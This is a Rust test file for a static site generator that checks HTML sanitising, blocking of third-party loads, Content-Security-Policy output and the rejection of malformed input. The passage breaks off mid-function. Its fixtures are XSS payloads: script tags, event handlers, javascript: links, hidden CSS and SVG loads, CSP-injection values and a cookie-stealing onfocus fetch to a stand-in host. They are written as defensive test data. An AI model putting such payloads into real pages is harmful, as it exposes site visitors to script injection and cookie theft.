//! Hostile and broken input: raw HTML is cleaned, script URLs never become links, nothing
//! loads from another host unless site.toml allows it, every page carries a strict
//! Content-Security-Policy, links out of the site are refused, and odd files give clear
//! errors rather than panics.

use crate::common;

use std::path::Path;

use common::{Built, build_error, fixture, sel};

fn write(site: &Path, rel: &str, text: &str) {
    let path = site.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn append(site: &Path, rel: &str, text: &str) {
    let path = site.join(rel);
    let before = std::fs::read_to_string(&path).unwrap();
    std::fs::write(path, before + text).unwrap();
}

const HOSTILE: &str = "---\ntitle: Hostile\ndate: 2024-03-01\n---\n\
Kept <b>bold</b> text.\n\
\n\
<script>alert('s')</script>\n\
\n\
<p onclick=\"alert('c')\">Clicked <img src=\"/ok.png\" onerror=\"alert('e')\"></p>\n\
\n\
<iframe src=\"/frame/\"></iframe><form action=\"/x\"><input name=\"q\"></form>\n\
<style>body{display:none}</style><object data=\"/o\"></object>\n\
\n\
<a href=\"javascript:alert('a')\">raw link</a> [md link](javascript:alert('m')) \
[spaced]( JaVaScRiPt:alert('s')) [data](data:text/html,<b>x</b>) \
![pixel](data:image/png;base64,AAAA)\n";

#[test]
fn raw_html_is_cleaned_and_script_urls_are_dropped() {
    let site = fixture("i18n");
    write(site.path(), "content/releases/hostile.md", HOSTILE);
    let built = Built::new(site.path());
    let page = built.html("releases/hostile/index.html");
    let main = page.select(&sel("main")).next().unwrap();
    for tag in ["script", "iframe", "form", "style", "object", "input"] {
        assert_eq!(
            main.select(&sel(tag)).count(),
            0,
            "<{tag}> survived in {}",
            main.html()
        );
    }
    for element in page.select(&sel("*")) {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "{name}={value} on the page");
            let v = value.trim().to_ascii_lowercase();
            assert!(
                !v.starts_with("javascript:") && !v.starts_with("data:"),
                "{name}={value} on the page"
            );
        }
    }
    let text: String = main.text().collect();
    for kept in [
        "Kept", "bold", "Clicked", "raw link", "md link", "spaced", "data",
    ] {
        assert!(text.contains(kept), "{kept} lost from {text}");
    }
    assert!(main.select(&sel("b")).count() >= 1, "<b> kept");
    // Feeds carry the same cleaned HTML.
    let feed = built.read("feed.xml");
    for gone in ["alert(", "onerror", "<script", "javascript:"] {
        assert!(!feed.contains(gone), "{gone} in the feed");
    }
}

#[test]
fn unsafe_html_passes_raw_html_with_a_warning_but_never_script_links() {
    let site = fixture("i18n");
    append(
        site.path(),
        "site.toml",
        "\n[markdown]\nunsafe_html = true\n",
    );
    write(
        site.path(),
        "content/releases/raw.md",
        "---\ntitle: Raw\ndate: 2024-03-01\n---\n<span class=\"raw-kept\" data-x=\"1\">kept</span>\n\n\
         [md link](javascript:alert('m'))\n",
    );
    let built = Built::new(site.path());
    let page = built.read("releases/raw/index.html");
    assert!(
        page.contains("<span class=\"raw-kept\" data-x=\"1\">kept</span>"),
        "{page}"
    );
    assert!(!page.contains("javascript:"), "{page}");
    let summary = built.summary.to_string();
    assert!(
        summary.contains("warning") && summary.contains("unsafe_html"),
        "{summary}"
    );
}

#[test]
fn content_that_would_load_from_another_host_fails_the_build_at_its_line() {
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/pixel.md",
        "---\ntitle: Pixel\ndate: 2024-03-01\n---\nFirst.\n\n![tracker](https://tracker.example.net/p.png)\n",
    );
    let err = build_error(site.path());
    assert!(
        err.contains("content/releases/pixel.md:7")
            && err.contains("https://tracker.example.net/p.png")
            && err.contains("allow_hosts"),
        "{err}"
    );

    // Raw HTML, cleaned, still may not load from another host.
    write(
        site.path(),
        "content/releases/pixel.md",
        "---\ntitle: Pixel\ndate: 2024-03-01\n---\n<img src=\"//tracker.example.net/p.png\">\n",
    );
    let err = build_error(site.path());
    assert!(err.contains("content/releases/pixel.md:5"), "{err}");

    // Named in site.toml, the host is allowed, and the policy lets browsers load from it.
    append(
        site.path(),
        "site.toml",
        "\n[privacy]\nallow_hosts = [\"tracker.example.net\"]\n",
    );
    let built = Built::new(site.path());
    let csp = common::attrs(
        &built.html("index.html"),
        "meta[http-equiv=Content-Security-Policy]",
        "content",
    );
    assert!(
        csp[0].contains("default-src 'self' tracker.example.net;"),
        "{csp:?}"
    );
}

#[test]
fn a_theme_file_that_would_load_from_another_host_fails_the_build() {
    let site = fixture("i18n");
    write(
        site.path(),
        "static/extra.css",
        "body { color: black }\n@import url(https://fonts.example.com/css?family=X);\n",
    );
    let err = build_error(site.path());
    assert!(
        err.contains("static/extra.css:2") && err.contains("fonts.example.com"),
        "{err}"
    );
    std::fs::remove_file(site.path().join("static/extra.css")).unwrap();
    let base = site.path().join("themes/campaign/templates/base.html");
    let text = std::fs::read_to_string(&base).unwrap();
    std::fs::write(
        &base,
        text.replacen(
            "</head>",
            "<script src=\"https://cdn.example.com/lib.js\"></script>\n</head>",
            1,
        ),
    )
    .unwrap();
    let err = build_error(site.path());
    assert!(
        err.contains("themes/campaign/templates/base.html:") && err.contains("cdn.example.com"),
        "{err}"
    );
}

#[test]
fn every_page_carries_a_strict_policy_and_the_host_gets_headers() {
    let site = fixture("i18n");
    let built = Built::new(site.path());
    let expected = "default-src 'self'; base-uri 'self'; object-src 'none'; \
                    form-action 'self' https://forms.fixture.example.org";
    let files = built.html_files();
    assert!(files.len() > 10);
    // The search page alone may also compile WebAssembly (Pagefind's).
    let search = format!("{expected}; script-src 'self' 'wasm-unsafe-eval'");
    for file in &files {
        let page = built.html(file);
        let policy = if file.ends_with("search/index.html") {
            search.as_str()
        } else {
            expected
        };
        assert_eq!(
            common::attrs(&page, "meta[http-equiv=Content-Security-Policy]", "content"),
            vec![policy.to_string()],
            "{file}"
        );
        assert_eq!(
            common::attrs(&page, "meta[name=referrer]", "content"),
            vec!["no-referrer".to_string()],
            "{file}"
        );
        // What the policy forbids, the theme must not need.
        assert_eq!(page.select(&sel("style, [style]")).count(), 0, "{file}");
        // JSON-LD is a data block: browsers never run it, so the policy does not apply.
        for script in page.select(&sel("script")) {
            assert!(
                script.value().attr("src").is_some()
                    || script.value().attr("type") == Some("application/ld+json"),
                "inline script in {file}"
            );
        }
    }
    let headers = built.read("_headers");
    assert!(headers.starts_with("/*\n"), "{headers}");
    // One header for every path, so the widest policy (the search page's); every other
    // page narrows it with its own <meta>, and a browser applies both.
    for line in [
        &format!("  Content-Security-Policy: {search}; frame-ancestors 'none'"),
        "  Referrer-Policy: no-referrer",
        "  X-Content-Type-Options: nosniff",
        "  Permissions-Policy: camera=(), microphone=(), geolocation=()",
    ] {
        assert!(headers.contains(line), "{line} not in {headers}");
    }
}

#[test]
fn the_example_site_passes_its_own_privacy_rules() {
    let site = common::example();
    let built = Built::new(site.path());
    let csp = common::attrs(
        &built.html("index.html"),
        "meta[http-equiv=Content-Security-Policy]",
        "content",
    );
    // No form_action: the form composes an email.
    assert!(csp[0].ends_with("form-action 'self' mailto:"), "{csp:?}");
}

#[cfg(unix)]
#[test]
fn links_that_lead_out_of_the_site_are_refused_by_name() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("secret.md"),
        "---\ntitle: Secret\ndate: 2024-01-01\n---\nPrivate notes.\n",
    )
    .unwrap();
    std::fs::write(outside.path().join("t.html"), "secret template").unwrap();

    std::fs::write(
        outside.path().join("strings.yaml"),
        "home_title: Elsewhere\n",
    )
    .unwrap();
    for (target, link) in [
        ("secret.md", "content/releases/secret.md"),
        ("t.html", "themes/campaign/templates/linked.html"),
        ("strings.yaml", "themes/campaign/i18n/ar.yaml"),
    ] {
        let site = fixture("i18n");
        let _ = std::fs::remove_file(site.path().join(link));
        std::os::unix::fs::symlink(outside.path().join(target), site.path().join(link)).unwrap();
        let err = build_error(site.path());
        assert!(
            err.contains(link) && err.contains("outside the site"),
            "{err}"
        );
    }

    // A link inside the site is harmless: the build goes on.
    let site = fixture("i18n");
    std::os::unix::fs::symlink(
        site.path().join("content/releases/middle.md"),
        site.path().join("content/releases/again.md"),
    )
    .unwrap();
    Built::new(site.path());
}

#[test]
fn odd_files_read_or_fail_clearly() {
    // A byte-order mark, Windows line endings and a file with nothing after its front
    // matter all build.
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/windows.md",
        "\u{feff}---\r\ntitle: Windows\r\ndate: 2024-03-01\r\n---\r\nSaved in Word.\r\n",
    );
    write(
        site.path(),
        "content/releases/bare.md",
        "---\ntitle: Bare\ndate: 2024-03-02\n---\n",
    );
    let built = Built::new(site.path());
    assert!(
        built
            .read("releases/windows/index.html")
            .contains("Saved in Word.")
    );
    assert!(built.exists("releases/bare/index.html"));

    let cases: &[(&str, &[u8], &str)] = &[
        (
            "empty.md",
            b"",
            "content/releases/empty.md:1: no front matter",
        ),
        (
            "tabs.md",
            b"---\ntitle: Tabs\n\tdate: 2024-03-01\n---\nx\n",
            "content/releases/tabs.md:3",
        ),
        (
            "latin1.md",
            b"---\ntitle: Caf\xe9\ndate: 2024-03-01\n---\n",
            "not UTF-8 text (bad byte at offset 14)",
        ),
        (
            "escaped.md",
            b"---\ntitle: \"Bell \\a here\"\ndate: 2024-03-01\n---\n",
            "content/releases/escaped.md:2: invisible control character U+0007",
        ),
        (
            "nested.md",
            format!(
                "---\ntitle: Deep\ndate: 2024-03-01\nextra: {}\n---\n",
                "[".repeat(5000)
            )
            .as_bytes()
            .to_vec()
            .leak(),
            "content/releases/nested.md:",
        ),
    ];
    for (name, bytes, expected) in cases {
        let site = fixture("i18n");
        std::fs::write(site.path().join("content/releases").join(name), bytes).unwrap();
        let err = build_error(site.path());
        assert!(err.contains(expected), "{name}: {err}");
    }
}

#[test]
fn huge_and_deeply_nested_content_builds() {
    let site = fixture("i18n");
    // A 20 MB release.
    let paragraph = "Words of a long release, with *emphasis* and a [link](/people/).\n\n";
    let mut big = String::from("---\ntitle: Big\ndate: 2024-03-01\n---\n");
    while big.len() < 20 * 1024 * 1024 {
        big.push_str(paragraph);
    }
    big.push_str("The very end.\n");
    write(site.path(), "content/releases/big.md", &big);
    // A hundred tags on one release, the most it may carry.
    let tags: Vec<String> = (0..100).map(|i| format!("tag {i}")).collect();
    write(
        site.path(),
        "content/releases/tagged.md",
        &format!(
            "---\ntitle: Tagged\ndate: 2024-03-02\ntags: [{}]\n---\nMany tags.\n",
            tags.join(", ")
        ),
    );
    // Quotes and lists nested thousands deep.
    let quotes = format!("{}deep quote\n", "> ".repeat(5_000));
    let list: String = (0..2_000)
        .map(|i| format!("{}- level {i}\n", "  ".repeat(i)))
        .collect();
    write(
        site.path(),
        "content/releases/nested.md",
        &format!(
            "---\ntitle: Nested\ndate: 2024-03-03\n---\n{quotes}\n{list}\n<div>{}</div>\n",
            "<div>".repeat(250)
        ),
    );
    let built = Built::new(site.path());
    assert!(
        built
            .read("releases/big/index.html")
            .contains("The very end.")
    );
    assert!(built.exists("tags/tag-99/index.html"));
    assert!(
        built
            .read("releases/nested/index.html")
            .contains("deep quote")
    );
}

#[test]
fn allow_hosts_takes_host_names_only() {
    let site = fixture("i18n");
    append(
        site.path(),
        "site.toml",
        "\n[privacy]\nallow_hosts = [\"https://cdn.example.com/\"]\n",
    );
    let err = build_error(site.path());
    assert!(
        err.contains("site.toml:") && err.contains("is not a host name"),
        "{err}"
    );
}

#[test]
fn a_file_named_like_a_windows_device_is_refused() {
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/CON.md",
        "---\ntitle: Device\ndate: 2024-03-01\n---\nx\n",
    );
    let err = build_error(site.path());
    assert!(
        err.contains("content/releases/CON.md") && err.contains("device name on Windows"),
        "{err}"
    );
}

/// Every attribute of the headings in `html` (a page's or a feed entry's), checked: only
/// `id` and `class`, each a plain name.
fn assert_only_safe_heading_attributes(html: &str, context: &str) {
    let doc = scraper::Html::parse_fragment(html);
    let mut seen = 0;
    for heading in doc.select(&sel("h2, h3, h4, h5, h6")) {
        seen += 1;
        for (name, value) in heading.value().attrs() {
            assert!(
                name == "id" || name == "class",
                "{context}: {name}={value} on {}",
                heading.html()
            );
            for token in value.split_whitespace() {
                assert!(
                    token
                        .chars()
                        .all(|c| c.is_alphanumeric() || c == '-' || c == '_'),
                    "{context}: {name}={value}"
                );
            }
        }
    }
    assert!(seen >= 6, "{context}: headings lost: {html}");
}

#[test]
fn heading_attributes_never_carry_handlers() {
    // Every form of attribute block pulldown-cmark reads after a heading.
    let body = "# Focus {autofocus onfocus=fetch('https://x.example/'+document.cookie) tabindex=1}\n\n\
                ## Quoted {#safe-id .lead onclick=\"alert(1)\" data-x='y'}\n\n\
                ### Bare {onmouseover}\n\n\
                Setext {#set .ok style=color:red}\n======\n\n\
                #### Odd {#\"><script>alert(1)</script> .\"x}\n\n\
                ##### Many {.a .b #c .d-e key=value onload=x}\n\n\
                ###### Closed ### {onerror=alert(1)}\n\nText.\n";
    for unsafe_html in [false, true] {
        let site = fixture("i18n");
        if unsafe_html {
            append(
                site.path(),
                "site.toml",
                "\n[markdown]\nunsafe_html = true\n",
            );
        }
        write(
            site.path(),
            "content/releases/attrs.md",
            &format!("---\ntitle: Attributes\ndate: 2030-03-01\n---\n{body}"),
        );
        let built = Built::new(site.path());
        let page = built.html("releases/attrs/index.html");
        let main = page.select(&sel("main")).next().unwrap().html();
        assert_only_safe_heading_attributes(&main, "page");
        let text: String = scraper::Html::parse_fragment(&main)
            .root_element()
            .text()
            .collect();
        for kept in ["Focus", "Quoted", "Bare", "Setext", "Odd", "Many", "Closed"] {
            assert!(text.contains(kept), "{kept} lost: {text}");
        }
        // Feed readers apply no policy of ours: the entries' HTML must be as clean.
        for feed in ["feed.xml", "atom.xml"] {
            let parsed = feed_rs::parser::parse(built.read(feed).as_bytes()).unwrap();
            let entry = parsed
                .entries
                .iter()
                .find(|e| e.title.as_ref().is_some_and(|t| t.content == "Attributes"))
                .expect("the release is in the feed");
            let html = entry.content.as_ref().and_then(|c| c.body.clone()).unwrap();
            assert_only_safe_heading_attributes(&html, feed);
            for gone in [
                "onfocus",
                "onclick",
                "onerror",
                "onload",
                "autofocus",
                "tabindex",
            ] {
                assert!(!html.contains(gone), "{gone} in {feed}: {html}");
            }
        }
    }
}

#[test]
fn urls_that_reach_another_host_however_written_are_refused() {
    // Each is what a browser would load from the host named; the body is on line 5.
    let cases = [
        ("![x](HTTPS://upper.example/a.png)", "upper.example"),
        ("![x](http:bare.example/b.png)", "bare.example"),
        (
            "![x](https://fixture.example.org.evil.example/c.png)",
            "fixture.example.org.evil.example",
        ),
        (
            "![x](//scheme-relative.example/d.png)",
            "scheme-relative.example",
        ),
        ("<img src=\"https://,@comma.example/\">", "comma.example"),
        ("<img src=\"https:/&#9;/tab.example/x\">", "tab.example"),
        (
            "<img src=\"https:\\\\back.example\\x.png\">",
            "back.example",
        ),
        ("<img src=\"  https://spaced.example/x\">", "spaced.example"),
        (
            "<img src=\"&#104;ttps://entity.example/x\">",
            "entity.example",
        ),
    ];
    for (markdown, host) in cases {
        let site = fixture("i18n");
        write(
            site.path(),
            "content/releases/bypass.md",
            &format!("---\ntitle: Bypass\ndate: 2024-03-01\n---\n{markdown}\n"),
        );
        let err = build_error(site.path());
        assert!(
            err.contains("content/releases/bypass.md:5") && err.contains(host),
            "{markdown}: {err}"
        );
    }
    // The site's own host, however written, is the site's own.
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/own.md",
        "---\ntitle: Own\ndate: 2024-03-01\n---\n![a](HTTPS://Fixture.Example.org/a.png) \
         ![b](/b.png) ![c](c.png) <img src=\"https://fixture.example.org:443/d.png\">\n",
    );
    let built = Built::new(site.path());
    let page = built.html("releases/own/index.html");
    // A relative image is resolved against its own page, so feeds carry it too.
    assert!(
        common::attrs(&page, "main img", "src")
            .contains(&"https://fixture.example.org/releases/own/c.png".to_string()),
        "{:?}",
        common::attrs(&page, "main img", "src")
    );
}

#[test]
fn templates_and_stylesheets_are_read_as_a_browser_reads_them() {
    let cases: [(&str, &str, &str); 4] = [
        (
            "themes/campaign/templates/base.html",
            "<link rel=\"icon\" href=\"HTTPS://icon.example/f.ico\">",
            "icon.example",
        ),
        (
            "themes/campaign/templates/base.html",
            "<link rel=dns-prefetch href=//dns.example>",
            "dns.example",
        ),
        (
            "static/extra.css",
            "@import \"HTTPS://import.example/x.css\";",
            "import.example",
        ),
        (
            "static/extra.css",
            "a { background: url(https:\\\\\\\\escaped.example/x.png) }",
            "escaped.example",
        ),
    ];
    for (file, text, host) in cases {
        let site = fixture("i18n");
        let path = site.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let before = std::fs::read_to_string(&path).unwrap_or_default();
        let after = if before.contains("</head>") {
            before.replacen("</head>", &format!("{text}\n</head>"), 1)
        } else {
            format!("{before}{text}\n")
        };
        std::fs::write(&path, after).unwrap();
        let err = build_error(site.path());
        assert!(err.contains(file) && err.contains(host), "{text}: {err}");
    }
}

#[test]
fn an_svg_logo_with_its_namespace_builds() {
    let site = fixture("i18n");
    // Namespaces, vocabularies and licences name things; nothing is loaded from them.
    write(
        site.path(),
        "static/logo.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
         viewBox=\"0 0 10 10\"><style>@namespace svg url(http://www.w3.org/2000/svg);</style>\
         <a xlink:href=\"https://campaign.example/\"><circle r=\"4\"/></a></svg>\n",
    );
    let base = site.path().join("themes/campaign/templates/base.html");
    let text = std::fs::read_to_string(&base).unwrap();
    std::fs::write(
        &base,
        text.replacen(
            "</head>",
            "<link rel=\"license\" href=\"https://creativecommons.org/licenses/by/4.0/\">\n</head>",
            1,
        )
        .replacen(
            "<body",
            "<body itemscope itemtype=\"https://schema.org/WebPage\"",
            1,
        ),
    )
    .unwrap();
    let built = Built::new(site.path());
    assert!(built.exists("logo.svg"));
    // An image inside an SVG is still a load.
    write(
        site.path(),
        "static/logo.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://tracker.example/p.png\"/></svg>\n",
    );
    let err = build_error(site.path());
    assert!(
        err.contains("static/logo.svg:1") && err.contains("tracker.example"),
        "{err}"
    );
}

#[test]
fn site_toml_values_cannot_write_into_the_policy() {
    let cases = [
        (
            "[contact]\nform_action = \"https://f.example; script-src 'unsafe-inline' *\"\n",
            "form_action",
        ),
        (
            "[contact]\nform_action = \"javascript:alert(1)\"\n",
            "form_action",
        ),
        (
            "[contact]\nform_action = \"https://f.ex\\tample/x\"\n",
            "form_action",
        ),
        (
            "[privacy]\nallow_hosts = [\"cdn.example.com\\t\"]\n",
            "allow_hosts",
        ),
        (
            "[privacy]\nallow_hosts = [\"a.example; script-src *\"]\n",
            "allow_hosts",
        ),
        ("[privacy]\nallow_hosts = [\"a.example'\"]\n", "allow_hosts"),
        (
            "[privacy]\nallow_hosts = [\"*.example.com\"]\n",
            "allow_hosts",
        ),
    ];
    for (toml, key) in cases {
        let site = fixture("i18n");
        let path = site.path().join("site.toml");
        let text = std::fs::read_to_string(&path).unwrap();
        // The fixture's own [contact] table goes, so the case's can stand.
        let text = text[..text.find("[contact]").unwrap()].to_string();
        std::fs::write(&path, format!("{text}{toml}")).unwrap();
        let err = build_error(site.path());
        assert!(
            err.contains("site.toml:") && err.contains(key),
            "{toml}: {err}"
        );
    }
    // A form address is written into the policy as its origin, parsed.
    let site = fixture("i18n");
    let path = site.path().join("site.toml");
    let text = std::fs::read_to_string(&path).unwrap().replace(
        "https://forms.fixture.example.org/interview",
        "HTTPS://Forms.Fixture.Example.org:443/interview?x=1",
    );
    std::fs::write(&path, text).unwrap();
    append(
        site.path(),
        "site.toml",
        "\n[privacy]\nallow_hosts = [\"Media.Example.ORG\"]\n",
    );
    let built = Built::new(site.path());
    let csp = common::attrs(
        &built.html("index.html"),
        "meta[http-equiv=Content-Security-Policy]",
        "content",
    );
    assert_eq!(
        csp,
        [
            "default-src 'self' media.example.org; base-uri 'self'; object-src 'none'; \
          form-action 'self' https://forms.fixture.example.org"
        ]
    );
    assert!(built.read("_headers").contains(&csp[0]));
}

#[test]
fn xml_noncharacters_are_refused_at_their_line() {
    let cases: [(&str, &str, &str); 6] = [
        (
            "content/releases/title.md",
            "---\ntitle: Broken \u{FFFE} title\ndate: 2024-03-01\n---\nx\n",
            "content/releases/title.md:2",
        ),
        (
            "content/releases/body.md",
            "---\ntitle: Body\ndate: 2024-03-01\n---\nFirst.\n\nA \u{FFFF} here.\n",
            "content/releases/body.md:7",
        ),
        (
            "content/releases/escape.md",
            "---\ntitle: Escape\ndate: 2024-03-01\nsummary: \"An \\uFFFE escape\"\n---\nx\n",
            "content/releases/escape.md:4",
        ),
        (
            "content/statements/ada-second.md",
            "---\nperson: ada\n---\nA quote \u{FDD0}.\n",
            "content/statements/ada-second.md:4",
        ),
        (
            "themes/campaign/i18n/ar.yaml",
            "home_title: \"\\uFFFF\"\n",
            "themes/campaign/i18n/ar.yaml:1",
        ),
        (
            "site.toml",
            "title = \"Fixture \\uFFFF Press\"\nbase_url = \"https://fixture.example.org\"\n\
             default_language = \"en\"\n[languages.en]\nname = \"English\"\n",
            "site.toml:1",
        ),
    ];
    for (file, text, at) in cases {
        let site = fixture("i18n");
        write(site.path(), file, text);
        let err = build_error(site.path());
        assert!(
            err.contains(at) && err.contains("noncharacter"),
            "{file}: {err}"
        );
    }
    // What XML can carry still builds, and every feed parses.
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/wide.md",
        "---\ntitle: \"Wide \u{FFFD} \u{1F600} \u{200F}ت\"\ndate: 2024-03-01\n---\nText \u{10FFFD}.\n",
    );
    let built = Built::new(site.path());
    for feed in ["feed.xml", "atom.xml", "ar/feed.xml", "ar/atom.xml"] {
        feed_rs::parser::parse(built.read(feed).as_bytes())
            .unwrap_or_else(|e| panic!("{feed}: {e}"));
    }
}

#[test]
fn slow_inputs_are_refused_quickly_at_their_line() {
    let cases = [
        (
            "yaml.md",
            format!(
                "---\ntitle: Deep\ndate: 2024-03-01\nextra: {}\n---\n",
                "[".repeat(100_000)
            ),
            "content/releases/yaml.md:4: brackets or braces nested more than",
        ),
        (
            "braces.md",
            format!(
                "---\ntitle: Deep\ndate: 2024-03-01\nextra: {}\n---\n",
                "{a: ".repeat(100_000)
            ),
            "content/releases/braces.md:4: brackets or braces nested more than",
        ),
        (
            "divs.md",
            format!(
                "---\ntitle: Divs\ndate: 2024-03-01\n---\nText.\n\n{}\n",
                "<div>".repeat(100_000)
            ),
            "content/releases/divs.md:7: raw HTML with elements nested more than",
        ),
        (
            "tags.md",
            format!(
                "---\ntitle: Tags\ndate: 2024-03-01\ntags: [{}]\n---\n",
                (0..10_001)
                    .map(|i| format!("t{i}"))
                    .collect::<Vec<_>>()
                    .join(",")
            ),
            "content/releases/tags.md:4: 10001 tags",
        ),
        // Found while probing: each took time or memory out of all proportion to its size.
        (
            "formatting.md",
            format!(
                "---\ntitle: Bold\ndate: 2024-03-01\n---\nText.\n\n{}{}\n",
                (0..5_000)
                    .map(|i| format!("<b class=c{i}>"))
                    .collect::<String>(),
                "<p>x</p>".repeat(5_000)
            ),
            "content/releases/formatting.md:7: raw HTML with more than 16 formatting elements",
        ),
        (
            "attributes.md",
            format!(
                "---\ntitle: Attrs\ndate: 2024-03-01\n---\nx <p {}>y</p>\n",
                (0..400_000)
                    .map(|i| format!("a{i}=x"))
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            "content/releases/attributes.md:5: raw HTML with a tag with more than 256 attributes",
        ),
        (
            "twice.md",
            format!(
                "---\ntitle: Twice\ndate: 2024-03-01\nstatements:\n{}---\n",
                "  - ada-first\n".repeat(8_000)
            ),
            "content/releases/twice.md:4: statement `ada-first` is listed twice",
        ),
        (
            "summary.md",
            format!(
                "---\ntitle: Long\ndate: 2024-03-01\nsummary: {}\n---\n",
                "word ".repeat(200_000)
            ),
            "content/releases/summary.md:4: `summary` is 999999 bytes long",
        ),
        (
            "missing.md",
            format!(
                "---\ntitle: Missing\ndate: 2024-03-01\nstatements:\n{}---\n",
                (0..20_000)
                    .map(|i| format!("  - gone-{i}\n"))
                    .collect::<String>()
            ),
            "content/releases/missing.md: … and 19980 more problems in `statements:`",
        ),
    ];
    for (name, text, expected) in cases {
        let site = fixture("i18n");
        write(site.path(), &format!("content/releases/{name}"), &text);
        let err = build_error(site.path());
        assert!(err.contains(expected), "{name}: {err}");
    }
    // A hundred and one languages: every page would list them all.
    let site = fixture("i18n");
    let languages: String = (0..100)
        .map(|i| {
            format!(
                "\n[languages.x{}{}]\nname = \"L{i}\"\n",
                (b'a' + i / 26) as char,
                (b'a' + i % 26) as char
            )
        })
        .collect();
    append(site.path(), "site.toml", &languages);
    let err = build_error(site.path());
    assert!(
        err.contains("site.toml: 102 languages: a site can have at most 100"),
        "{err}"
    );
}

#[test]
fn a_code_line_too_long_to_highlight_is_shown_plain() {
    let site = fixture("i18n");
    let line = "[[".repeat(80_000);
    write(
        site.path(),
        "content/releases/code.md",
        &format!("---\ntitle: Code\ndate: 2024-03-01\n---\n```sh\n{line}\necho ok\n```\n"),
    );
    let built = Built::new(site.path());
    let page = built.html("releases/code/index.html");
    let code = common::text(&page, "pre.code");
    assert!(
        code.contains(&line) && code.contains("echo ok"),
        "the code is all there"
    );
    assert_eq!(page.select(&sel("pre.code span")).count(), 0, "shown plain");
}

/// Found by the privacy fuzz target: a Markdown autolink (`<scheme:…>`) of a scheme no
/// browser knows became a link, where raw HTML with the same link would be cleaned.
#[test]
fn an_autolink_to_an_unknown_scheme_is_no_link() {
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/autolink.md",
        "---\ntitle: Autolink\ndate: 2024-03-01\n---\n<svnk:hrsvnk:href=\"httror=\"x\">< \
         <meta http-equiv=\"refresh\" conteps://g>\n\n<ms-msdt:/id PCWDiagnostic> [run](search-ms:query=x)\n",
    );
    let built = Built::new(site.path());
    let page = built.html("releases/autolink/index.html");
    let main = page.select(&sel("main")).next().unwrap();
    for link in main.select(&sel("a[href]")) {
        let href = link.value().attr("href").unwrap();
        assert!(
            ["http:", "https:", "mailto:", "tel:"]
                .iter()
                .any(|s| href.starts_with(s)),
            "{href} in {}",
            main.html()
        );
    }
    assert!(
        main.text().collect::<String>().contains("run"),
        "the text stays"
    );
}

/// Found in review: loads hidden where the first scanner did not look. Each line of the
/// static page is one; every one must be refused at its line.
#[test]
fn loads_hidden_in_svg_refreshes_srcdoc_data_and_css_variables_are_refused() {
    let page = [
        (
            "<meta http-equiv=\"refresh\" content=\"0; https://a.example/\">",
            "a.example",
        ),
        (
            "<meta http-equiv=\"refresh\" content=\"0; url = https://b.example/\">",
            "b.example",
        ),
        (
            "<svg><style><img src=\"https://c.example/x.png\"></style></svg>",
            "c.example",
        ),
        (
            "<iframe srcdoc=\"<img src='https://d.example/x.png'>\"></iframe>",
            "d.example",
        ),
        (
            "<link rel=stylesheet href=\"data:text/css,@import url(https://e.example/a.css);\">",
            "data: URL of type text/css",
        ),
        (
            "<div style=\"--u:'https://f.example/a.png';background-image:image-set(var(--u) 1x)\"></div>",
            "f.example",
        ),
        (
            "<svg><image href=\"/o.png\"><set attributeName=\"href\" to=\"https://g.example/x.png\"/></image></svg>",
            "g.example",
        ),
        (
            "<svg><rect filter=\"url(https://h.example/f.svg#f)\"/></svg>",
            "h.example",
        ),
    ];
    let text: String = page.iter().map(|(l, _)| format!("{l}\n")).collect();
    let site = fixture("i18n");
    write(site.path(), "static/v.html", &text);
    let err = build_error(site.path());
    for (i, (line, what)) in page.iter().enumerate() {
        let at = format!("static/v.html:{}: ", i + 1);
        assert!(
            err.lines().any(|l| l.contains(&at) && l.contains(what)),
            "{line}: {err}"
        );
    }
    // The same in a body, with raw HTML passed through as written.
    let site = fixture("i18n");
    append(
        site.path(),
        "site.toml",
        "\n[markdown]\nunsafe_html = true\n",
    );
    write(
        site.path(),
        "content/releases/raw.md",
        &format!(
            "---\ntitle: Raw\ndate: 2024-03-01\n---\n{}",
            text.replace('\n', "\n\n")
        ),
    );
    let err = build_error(site.path());
    for (_, what) in page {
        assert!(err.contains(what), "{what}: {err}");
    }
}

#[test]
fn standalone_svg_and_xhtml_are_read_as_xml() {
    let cases = [
        (
            "static/entity.svg",
            "<!DOCTYPE svg [<!ENTITY e \"https://i.example/x.png\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"&e;\"/></svg>\n",
            "static/entity.svg:1: declares entities",
        ),
        (
            "static/escaped.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<style>@import &#x75;rl(https://j.example/a.css);</style></svg>\n",
            "static/escaped.svg:2: loads https://j.example/a.css",
        ),
        (
            "static/page.xhtml",
            "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body>\n<img src=\"https://x.example/p.png\"/></body></html>\n",
            "static/page.xhtml:2: loads https://x.example/p.png",
        ),
        (
            "static/feed.xsl",
            "<?xml-stylesheet href=\"https://s.example/s.css\"?>\n<x/>\n",
            "static/feed.xsl:1: loads https://s.example/s.css",
        ),
        (
            "static/broken.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><g></svg>\n",
            "static/broken.svg:1: not well-formed XML",
        ),
    ];
    for (file, text, expected) in cases {
        let site = fixture("i18n");
        write(site.path(), file, text);
        let err = build_error(site.path());
        assert!(err.contains(expected), "{file}: {err}");
    }
}

#[test]
fn a_template_is_read_as_the_page_it_renders() {
    // A URL put together by an expression, and one taken from a UI string: the template's
    // source shows neither.
    for (addition, host) in [
        (
            "<img src=\"{{ \"https:\" }}//t.example/x.png\">",
            "t.example",
        ),
        ("<link rel=icon href=\"{{ t.privacy_note }}\">", "u.example"),
    ] {
        let site = fixture("i18n");
        let base = site.path().join("themes/campaign/templates/base.html");
        let text = std::fs::read_to_string(&base).unwrap();
        std::fs::write(
